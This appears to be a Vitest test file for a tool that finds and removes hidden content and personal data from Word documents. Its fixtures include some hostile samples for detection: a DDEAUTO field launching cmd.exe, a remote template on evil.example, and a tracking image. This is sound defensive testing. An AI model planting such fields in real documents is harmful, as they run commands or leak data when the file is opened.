import { describe, expect, it } from 'vitest';
import { clean, found, PHONE, RESIDENT } from '../fixtures/inspected.ts';
import {
  allText,
  type Link,
  type Parts,
  paragraph as p,
  partOf,
  rels,
  run,
  wordFile,
  wordPart,
} from '../fixtures/packages.ts';

type Extra = { parts?: Parts; links?: Link[] };
const marked = 'w:id="1" w:author="李四" w:date="2024-01-01T00:00:00Z"';
const field = (instruction: string, result: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const shape = (text: string) =>
  `<wps:wsp><wps:txbx><w:txbxContent>${p(text)}</w:txbxContent></wps:txbx></wps:wsp>`;

const cases: [name: string, body: string, extra: Extra, findings: string[], text: string][] = [
  ['plain text', p('甲'), {}, [], '甲'],
  [
    'tracked changes',
    `<w:p>${run('共')}<w:ins ${marked}>${run('95')}</w:ins><w:del ${marked}><w:r><w:delText>秘密的九十四</w:delText></w:r></w:del>${run('件')}</w:p>`,
    {},
    ['tracked-change（正文）'],
    '共95件',
  ],
  [
    'text that was moved',
    `<w:p><w:moveFromRangeStart ${marked}/><w:moveFrom ${marked}>${run('旧处')}</w:moveFrom><w:moveFromRangeEnd w:id="1"/></w:p><w:p><w:moveTo ${marked}>${run('新处')}</w:moveTo></w:p>`,
    {},
    ['tracked-change（正文）'],
    '|新处',
  ],
  [
    'a paragraph end that was deleted',
    `<w:p><w:pPr><w:jc w:val="left"/><w:rPr><w:del ${marked}/></w:rPr></w:pPr>${run('甲')}</w:p>${p('乙', '<w:jc w:val="right"/>')}`,
    {},
    ['tracked-change（正文）'],
    '甲乙',
  ],
  [
    'two paragraph ends that were deleted',
    `${['甲', '乙'].map((text) => `<w:p><w:pPr><w:rPr><w:del ${marked}/></w:rPr></w:pPr>${run(text)}</w:p>`).join('')}<w:p/>${p('丁')}`,
    {},
    ['tracked-change（正文）'],
    '甲乙|丁',
  ],
  [
    'a row and formats that were changed',
    `<w:tbl><w:tblPr/><w:tr><w:trPr><w:del ${marked}/></w:trPr><w:tc>${p('秘')}</w:tc></w:tr><w:tr><w:tc><w:tcPr><w:tcPrChange ${marked}><w:tcPr/></w:tcPrChange></w:tcPr>${p('留')}</w:tc></w:tr></w:tbl><w:p><w:r><w:rPr><w:b/><w:rPrChange ${marked}><w:rPr/></w:rPrChange></w:rPr><w:t>粗</w:t></w:r></w:p>`,
    {},
    ['tracked-change（正文）'],
    '留|粗',
  ],
  [
    'hidden text, by itself and by its style',
    `<w:p>${run('见')}${run('隐一', '<w:vanish/>')}${run('隐二', '<w:rStyle w:val="Sub"/>')}${run('也见', '<w:vanish w:val="0"/>')}</w:p>`,
    {
      links: [['s', 'styles', 'styles.xml']],
      parts: {
        'word/styles.xml': wordPart(
          'styles',
          '<w:style w:type="character" w:styleId="Base"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:type="character" w:styleId="Sub"><w:basedOn w:val="Base"/></w:style>',
        ),
      },
    },
    ['hidden-text（正文）'],
    '见也见',
  ],
  [
    'white and tiny text; white on dark is legible',
    `<w:p>${run('白', '<w:color w:val="FFFFFF"/>')}${run('小', '<w:sz w:val="2"/>')}${run('反白', '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="1F3864"/>')}</w:p><w:tbl><w:tr><w:tc><w:tcPr><w:shd w:val="clear" w:color="auto" w:fill="000000"/></w:tcPr><w:p>${run('表头', '<w:color w:val="FFFFFF"/>')}</w:p></w:tc></w:tr></w:tbl>`,
    {},
    ['invisible-text（正文）'],
    '反白|表头',
  ],
  [
    'comments and who made them',
    `<w:p><w:commentRangeStart w:id="0"/>${run('正文')}<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>`,
    {
      links: [
        ['c', 'comments', 'comments.xml'],
        ['q', 'people', 'people.xml'],
      ],
      parts: {
        'word/comments.xml': wordPart(
          'comments',
          `<w:comment w:id="0" w:author="李四">${p('不能给他')}</w:comment>`,
        ),
        'word/people.xml': wordPart('people', '<w:person w:author="李四"/>'),
      },
    },
    ['comment（批注）', 'people-list（整个文件）'],
    '正文',
  ],
  [
    'personal data in several runs, in a header and a note',
    `<w:p>${run(`身份证${RESIDENT.slice(0, 8)}`)}${run(RESIDENT.slice(8), '<w:b/>')}</w:p>`,
    {
      links: [['h', 'header', 'header1.xml']],
      parts: { 'word/header1.xml': wordPart('hdr', p(`联系电话：${PHONE}`)) },
    },
    ['mobile-number（页眉1）', 'resident-number（正文）'],
    `身份证530***********${RESIDENT.slice(-4)}`,
  ],
  [
    'a template from elsewhere',
    p('甲'),
    {
      links: [['s', 'settings', 'settings.xml']],
      parts: {
        'word/settings.xml': wordPart('settings', '<w:attachedTemplate r:id="t"/>'),
        'word/_rels/settings.xml.rels': rels(['t', 'attachedTemplate', 'http://evil.example/t.dotm', true]),
      },
    },
    ['attached-template（文档设置）'],
    '甲',
  ],
  [
    'variables and the source of a mail merge',
    p('甲'),
    {
      links: [['s', 'settings', 'settings.xml']],
      parts: {
        'word/settings.xml': wordPart(
          'settings',
          '<w:mailMerge><w:connectString w:val="C:\\名单\\张三.xls"/></w:mailMerge><w:docVars><w:docVar w:name="a" w:val="秘密"/></w:docVars>',
        ),
      },
    },
    ['document-variables（文档设置）', 'mail-merge（文档设置）'],
    '甲',
  ],
  [
    'fields that fetch; page numbers do not',
    `<w:p>${field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" ', '结果')}${field(' PAGE ', '7')}<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\srv\\\\a.docx&quot; ">${run('并入')}</w:fldSimple></w:p>`,
    {},
    ['outside-field（正文）'],
    '结果7并入',
  ],
  [
    'links into the house; links to the web are no secret',
    `<w:p><w:hyperlink r:id="a">${run('内部')}</w:hyperlink><w:hyperlink r:id="b">${run('网站')}</w:hyperlink></w:p>`,
    {
      links: [
        ['a', 'hyperlink', 'file:///\\\\10.0.0.8\\案卷\\张三.docx', true],
        ['b', 'hyperlink', 'https://www.gov.cn/', true],
      ],
    },
    ['internal-path（正文）'],
    '内部网站',
  ],
  [
    'a picture that is fetched when the file is opened',
    '<w:p><w:r><w:drawing><a:blip r:link="a"/></w:drawing></w:r></w:p>',
    { links: [['a', 'image', 'http://track.example/p.png', true]] },
    ['remote-content（正文）'],
    '',
  ],
  [
    'an embedded object, its picture stays',
    `<w:p><w:r><w:object><v:shape id="s"/><o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" r:id="o"/></w:object></w:r>${run('表')}</w:p>`,
    {
      links: [['o', 'package', 'embeddings/a.xlsx']],
      parts: { 'word/embeddings/a.xlsx': 'PK秘密' },
    },
    ['embedded-object（正文）'],
    '表',
  ],
  [
    'other words for older readers',
    `<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps">${shape('显示')}</mc:Choice><mc:Fallback>${p('另一种说法')}</mc:Fallback></mc:AlternateContent></w:r><w:r><mc:AlternateContent><mc:Choice Requires="wps">${shape('相同')}</mc:Choice><mc:Fallback>${p('相同')}</mc:Fallback></mc:AlternateContent></w:r></w:p>`,
    {},
    ['alternate-content（正文）'],
    '显示|相同|相同',
  ],
  [
    'a drawing set hidden',
    `<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="a" hidden="1"/>${shape('秘密')}</wp:inline></w:drawing></w:r>${run('留')}</w:p>`,
    {},
    ['hidden-shape（正文）'],
    '留',
  ],
  [
    'custom XML, custom properties, a thumbnail, who wrote it',
    p('甲'),
    {
      links: [['x', 'customXml', '../customXml/item1.xml']],
      parts: {
        '_rels/.rels': rels(
          ['rId1', 'officeDocument', 'word/document.xml'],
          ['rId2', 'core-properties', 'docProps/core.xml'],
          ['rId3', 'extended-properties', 'docProps/app.xml'],
          ['rId4', 'custom-properties', 'docProps/custom.xml'],
          ['rId5', 'thumbnail', 'docProps/thumbnail.jpeg'],
        ),
        'customXml/item1.xml': '<a>秘密</a>',
        'docProps/core.xml':
          '<c:coreProperties xmlns:c="c" xmlns:d="d"><d:creator>张三</d:creator><c:lastModifiedBy>Li Si</c:lastModifiedBy></c:coreProperties>',
        'docProps/app.xml': '<Properties><Company>昆明高新区管委会</Company></Properties>',
        'docProps/custom.xml':
          '<Properties><property name="a"><v:lpwstr xmlns:v="v">案号</v:lpwstr></property></Properties>',
        'docProps/thumbnail.jpeg': Uint8Array.of(0xff, 0xd8, 0xff, 0xd9),
      },
    },
    [
      'custom-properties（文件属性）',
      'custom-xml（整个文件）',
      'document-author（文件属性）',
      'thumbnail（文件属性）',
      '~document-properties（文件属性）',
    ],
    '甲',
  ],
  [
    'a part that nobody refers to',
    p('甲'),
    { parts: { 'word/secret.xml': '<a>秘密</a>' } },
    ['orphan-part（整个文件）'],
    '甲',
  ],
];

const textOf = async (bytes: Uint8Array) =>
  ((await partOf(bytes, 'word/document.xml')) ?? '')
    .split(/<\/w:p>|<w:p\/>/)
    .slice(0, -1)
    .map((piece) => [...piece.matchAll(/<w:t[ >][^<]*?>?([^<>]*)<\/w:t>/g)].map((match) => match[1]).join(''))
    .join('|');

describe('a Word document', () => {
  it.each(cases)('%s', async (_, body, extra, findings, text) => {
    const bytes = await wordFile(body, extra);
    expect(await found(bytes, 'a.docx')).toEqual(findings.sort());
    const { bytes: cleaned, left } = await clean(bytes, 'a.docx');
    expect(left).toEqual([]);
    expect((await textOf(cleaned)).replace(/\|$/, '')).toBe(text);
    const rest = await allText(cleaned);
    for (const secret of ['李四', '秘密', '隐一', '不能给他', '张三', 'evil', 'track', PHONE, RESIDENT]) {
      expect(rest).not.toContain(secret);
    }
  });

  it('keeps what one click was not about', async () => {
    const bytes = await wordFile(
      `<w:p>${run('隐', '<w:vanish/>')}${run('白', '<w:color w:val="FFFFFF"/>')}</w:p>`,
    );
    const { left } = await clean(bytes, 'a.docx', ['hidden-text@word/document.xml']);
    expect(left.map(({ kind }) => kind)).toEqual(['invisible-text']);
  });

  it('tells what it cannot clean', async () => {
    const bytes = await wordFile('<w:altChunk r:id="a"/>', {
      links: [['a', 'aFChunk', 'a.html']],
      parts: { 'word/a.html': '<html>整篇</html>' },
    });
    const { left } = await clean(bytes, 'a.docx');
    expect(left.map(({ kind, cleaning }) => [kind, cleaning])).toEqual([['embedded-document', null]]);
  });
});
